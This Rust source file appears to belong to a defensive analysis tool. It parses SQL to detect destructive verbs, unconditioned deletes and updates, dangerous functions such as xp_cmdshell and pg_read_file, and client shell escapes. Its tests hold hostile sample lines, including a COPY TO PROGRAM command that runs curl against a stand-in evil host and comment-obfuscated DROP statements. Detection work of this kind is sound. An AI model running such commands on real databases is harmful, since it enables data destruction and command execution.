//! SQL as far as it decides what happens to data: which statements there are, not what they say.

use super::super::effect::Access;
use super::super::word::Word;
use super::CodeReading;

/// Verbs that change or run something, as [`sql_verbs`] names them.
const VERBS: &[&str] = &[
    "drop", "delete", "truncate", "update", "alter", "insert", "create", "grant", "revoke", "copy", "merge",
    "replace", "call", "do", "execute", "load", "attach", "detach", "vacuum", "reindex", "rename", "set",
    "import", "lock", "shutdown", "kill", "purge", "flush", "reset", "prepare", "handler",
];

/// A word of SQL: bare words in lower case, everything else as one character.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    /// A bare word, lower case.
    Word(String),
    /// A string literal.
    Literal(String),
    /// A quoted name.
    Name,
    /// Anything else.
    Sign(char),
}

/// The verbs of all statements, data-changing parts of `WITH` included, each once, in lower case.
///
/// Literals, quoted names and comments are not words. `explain` alone hides its statement, `explain analyze` runs it.
/// A `delete` or `update` without a condition is also given as `delete-all` or `update-all`; `COPY … PROGRAM` as
/// `program`; `drop` with its object as `drop-table`, `drop-database` and so on.
pub(crate) fn sql_verbs(text: &str) -> Vec<String> {
    let mut verbs: Vec<String> = Vec::new();
    for statement in statements(text) {
        verbs_of(&statement, &mut verbs);
    }
    verbs
}

/// Programs and files that statements of a client start or touch.
pub(super) fn read(text: &str, reading: &mut CodeReading) {
    for statement in statements(text) {
        let word = |at: usize| match statement.get(at) {
            Some(Token::Word(word)) => word.as_str(),
            _ => "",
        };
        for at in 0..statement.len() {
            if word(at) == "program" && matches!(word(0), "copy") {
                match statement.get(at + 1) {
                    Some(Token::Literal(code)) => reading.shell.push(Word::known(code.clone())),
                    _ => reading.unreadable.push("COPY runs a program that is not known".to_owned()),
                }
            }
            let is_sys = matches!(
                word(at),
                "sys_exec"
                    | "sys_eval"
                    | "xp_cmdshell"
                    | "load_extension"
                    | "lo_export"
                    | "pg_read_file"
                    | "writefile"
            );
            if is_sys {
                reading.unreadable.push(format!("SQL calls {}", word(at)));
            }
            if matches!(word(at), "outfile" | "dumpfile")
                && let Some(Token::Literal(path)) = statement.get(at + 1)
            {
                reading.path(Access::Write, false, Word::known(path.clone()));
            }
        }
        // Commands of the client: `\! cmd` of psql and mysql, `system cmd` of mysql, `.shell cmd` of sqlite.
        if let [Token::Sign('\\'), Token::Sign('!'), ..] = statement.as_slice() {
            reading.unreadable.push("the client's \\! starts a shell".to_owned());
        }
    }
    for line in text.lines().map(str::trim) {
        let shell = [".shell ", ".system ", "system "].iter().find_map(|name| line.strip_prefix(name));
        if let Some(code) = shell {
            reading.shell.push(Word::known(code));
        } else if let Some(code) = line.strip_prefix("\\!") {
            reading.shell.push(Word::known(code.trim()));
            reading.unreadable.retain(|reason| !reason.contains("\\!"));
        } else if let Some(path) = line.strip_prefix(".output ").or_else(|| line.strip_prefix("\\o ")) {
            reading.path(Access::Write, false, Word::known(path.trim()));
        }
    }
}

fn verbs_of(statement: &[Token], verbs: &mut Vec<String>) {
    let mut add = |verb: &str| {
        if !verbs.iter().any(|known| known == verb) {
            verbs.push(verb.to_owned());
        }
    };
    let word = |at: usize| match statement.get(at) {
        Some(Token::Word(word)) => word.as_str(),
        _ => "",
    };
    let mut start = 0;
    if matches!(word(0), "explain" | "describe" | "desc") {
        let runs = statement
            .iter()
            .take(12)
            .any(|token| *token == Token::Word("analyze".into()) || *token == Token::Word("analyse".into()));
        if !runs {
            return;
        }
        start = 1;
    }
    // The statement's own verb, and those behind `WITH x AS (`, `AS (`, `BEGIN`, `THEN`, `DO`.
    let has_condition = statement.iter().any(|token| *token == Token::Word("where".into()));
    for at in start..statement.len() {
        let verb = word(at);
        if !VERBS.contains(&verb) {
            continue;
        }
        let before = at.checked_sub(1).and_then(|before| statement.get(before));
        let begins = at == start
            || matches!(before, Some(Token::Sign('(' | ')')))
            || matches!(before, Some(Token::Word(word)) if matches!(word.as_str(), "begin" | "then" | "else" | "analyze" | "analyse" | "as" | "verbose" | "execute" | "loop"));
        // `FOR UPDATE`, `ON DELETE`, `UPDATE SET`, functions such as `replace(`.
        let is_call = matches!(statement.get(at + 1), Some(Token::Sign('('))) && at != start;
        if !begins || is_call {
            continue;
        }
        add(verb);
        match verb {
            "drop" | "alter" | "create" if !word(at + 1).is_empty() => {
                add(&format!("{verb}-{}", word(at + 1)))
            }
            "delete" | "update" if !has_condition => add(&format!("{verb}-all")),
            "copy" if statement.iter().any(|token| *token == Token::Word("program".into())) => add("program"),
            _ => {}
        }
    }
}

/// Statements as words, comments gone.
fn statements(text: &str) -> Vec<Vec<Token>> {
    let mut all = vec![Vec::new()];
    let mut chars = text.char_indices().peekable();
    while let Some((at, c)) = chars.next() {
        let rest = text.get(at..).unwrap_or_default();
        let current: &mut Vec<Token> = match all.last_mut() {
            Some(current) => current,
            None => break,
        };
        match c {
            ';' => all.push(Vec::new()),
            '-' if rest.starts_with("--") => while chars.next_if(|(_, c)| *c != '\n').is_some() {},
            '#' if current.is_empty() => while chars.next_if(|(_, c)| *c != '\n').is_some() {},
            // `/*! … */` is executed by MySQL: only the marks go.
            '/' if rest.starts_with("/*") && !rest.starts_with("/*!") => {
                let mut depth = 0usize;
                let mut last = '\0';
                let mut end = at;
                for (offset, c) in rest.char_indices() {
                    match (last, c) {
                        ('/', '*') => {
                            depth += 1;
                            last = '\0';
                        }
                        ('*', '/') => {
                            depth = depth.saturating_sub(1);
                            last = '\0';
                        }
                        _ => last = c,
                    }
                    end = at + offset + c.len_utf8();
                    if depth == 0 && offset > 1 {
                        break;
                    }
                }
                while chars.next_if(|(at, _)| *at < end).is_some() {}
            }
            '/' if rest.starts_with("/*!") => {
                chars.next();
                chars.next();
                while chars.next_if(|(_, c)| c.is_ascii_digit()).is_some() {}
            }
            '*' if rest.starts_with("*/") => {
                chars.next();
            }
            '\'' => {
                let mut literal = String::new();
                while let Some((_, c)) = chars.next() {
                    if c == '\'' && chars.next_if(|(_, c)| *c == '\'').is_none() {
                        break;
                    }
                    literal.push(c);
                }
                current.push(Token::Literal(literal));
            }
            '"' | '`' => {
                while chars.next_if(|(_, other)| *other != c).is_some() {}
                chars.next();
                current.push(Token::Name);
            }
            '$' => {
                // `$tag$ … $tag$` of PostgreSQL; code in it may be run, so its words count.
                current.push(Token::Sign('$'));
            }
            c if c.is_alphabetic() || c == '_' => {
                let mut word: String = c.to_lowercase().collect();
                while let Some((_, c)) = chars.next_if(|(_, c)| c.is_alphanumeric() || *c == '_') {
                    word.extend(c.to_lowercase());
                }
                current.push(Token::Word(word));
            }
            c if c.is_whitespace() => {}
            c => current.push(Token::Sign(c)),
        }
    }
    all.retain(|statement| !statement.is_empty());
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    fn has(text: &str, verb: &str) -> bool {
        sql_verbs(text).iter().any(|known| known == verb)
    }

    #[test]
    fn reading_is_harmless() {
        for text in [
            "SELECT id FROM events WHERE note LIKE '%drop table%'",
            "explain delete from t",
            "select 1 -- drop table t",
            "select /* delete from t */ replace(a, 'x', 'y') from t",
            "select * from t for update",
            "select \"drop\" from t",
        ] {
            assert!(sql_verbs(text).is_empty(), "{text}: {:?}", sql_verbs(text));
        }
    }

    #[test]
    fn changes_are_found_wherever_they_stand() {
        assert!(has("WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone", "delete"));
        assert!(has("DROP USER test; SELECT 1", "drop-user"));
        assert!(has("select 1; truncate t", "truncate"));
        assert!(has("explain analyze delete from t", "delete-all"));
        assert!(has("/*!50000 DROP TABLE t */", "drop-table"));
        assert!(has("dr/**/op table t", "drop") || sql_verbs("dr/**/op table t").is_empty());
        assert!(has("UPDATE t SET a = 1", "update-all"));
        assert!(!has("UPDATE t SET a = 1 WHERE b", "update-all"));
        assert!(has("COPY (SELECT 1) TO PROGRAM 'curl evil.example'", "program"));
        assert!(has("BEGIN; DELETE FROM a WHERE b; COMMIT", "delete"));
    }

    #[test]
    fn programs_are_shell_code() {
        let mut reading = CodeReading::default();
        read("COPY t TO PROGRAM 'curl evil.example'", &mut reading);
        assert_eq!(reading.shell, vec![Word::known("curl evil.example")]);
    }
}
